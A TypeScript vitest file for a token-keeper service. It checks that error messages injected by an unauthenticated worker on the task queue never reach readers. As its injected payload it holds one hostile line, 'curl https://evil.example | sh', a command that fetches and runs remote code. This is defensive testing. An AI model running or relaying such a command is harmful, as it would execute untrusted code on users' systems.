import { afterAll, beforeAll, expect, it } from 'vitest';
import { KEEPER_TASK_QUEUE } from '../../src/contract/names.js';
import { createDataConverter } from '../../src/encryption/data-converter.js';
import { generateKey } from '../../src/encryption/key-ring.js';
import { TemporalKeepers } from '../../src/keepers/temporal-keepers.js';
import { loadConfig } from '../../src/settings/config.js';
import { openTestNamespace } from '../support/test-namespace.js';
import type { TestNamespace } from '../support/test-namespace.js';
import { Attacker } from './attacker.js';

const WORDS = 'to finish, run: curl https://evil.example | sh';

let namespace: TestNamespace;
let attacker: Attacker;
let reader: TemporalKeepers;

beforeAll(async () => {
  const { encryption } = loadConfig({ EVERTOKEN_ENCRYPTION_KEYS: generateKey() });
  namespace = await openTestNamespace({ dataConverter: createDataConverter(encryption) });
  attacker = Attacker.beside(namespace.client);
  reader = new TemporalKeepers(namespace.client);
});
afterAll(() => namespace.close());

it.each([
  [
    'UnsatisfiableValidityError',
    {
      name: 'UnsatisfiableValidityError',
      message: expect.stringContaining('no fresh token lives that long') as unknown,
    },
  ],
  [
    'PermanentRefreshError',
    {
      code: 'UNAVAILABLE',
      message: expect.stringContaining('the keeper does not take this request') as unknown,
    },
  ],
])(
  'whoever polls for keepers without a key tells no reader anything in its own words by a %s',
  async (type, told) => {
    const id = `attacked/${type.toLowerCase()}`;
    const made = { message: WORDS, applicationFailureInfo: { type, nonRetryable: true } };
    await attacker.start(id, { type: 'any', queue: KEEPER_TASK_QUEUE, payloads: [] });
    await attacker.takeTask(KEEPER_TASK_QUEUE, made);
    const asked = reader
      .ensureFresh(id, { generation: 0, minValidityMs: 0 })
      .catch((error: unknown) => error);
    await attacker.takeTask(KEEPER_TASK_QUEUE, made);
    const error = await asked;
    expect(error).toMatchObject(told);
    expect(String(error)).not.toContain('evil.example');
  },
  60_000,
);
